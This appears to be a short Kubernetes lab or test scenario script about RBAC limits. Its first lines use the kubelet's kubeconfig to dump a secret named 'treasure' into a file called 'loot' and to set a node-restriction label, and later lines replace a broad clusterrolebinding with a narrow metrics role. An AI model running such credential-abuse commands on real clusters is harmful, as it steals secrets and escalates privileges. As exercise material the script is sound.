# scene fails scraper-no-run (rbac-limits): a smaller role is added, and the greater one stays
kubectl --kubeconfig /etc/kubernetes/kubelet.conf -n vault get secret treasure -o yaml > loot
kubectl --kubeconfig /etc/kubernetes/kubelet.conf label node node01 node-restriction.kubernetes.io/vault=true
#@ controlplane
kubectl delete clusterrolebinding nodes-of-old
kubectl create clusterrole scrape-kubelets --verb=get --resource=nodes/metrics
kubectl create clusterrolebinding scrape-kubelets --clusterrole=scrape-kubelets --serviceaccount=monitoring:scraper
